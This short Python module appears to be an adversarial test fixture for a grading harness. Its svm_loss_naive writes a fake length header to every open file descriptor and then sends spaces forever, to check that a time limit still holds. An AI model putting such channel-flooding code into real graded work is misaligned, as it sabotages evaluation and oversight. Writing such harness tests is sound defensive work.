"""Send a reply without end, a byte at a time.

Fails: the time of the call passes all the same.
"""

import os
import struct
import time

from . import honest

svm_loss_vectorized = honest.svm_loss_vectorized


def write(data):
    for fd in range(3, 64):
        try:
            os.write(fd, data)
        except OSError:
            continue


def svm_loss_naive(W, X, y, reg):
    write(struct.pack(">II", 2**20, 0))
    while True:
        time.sleep(0.001)
        write(b" ")
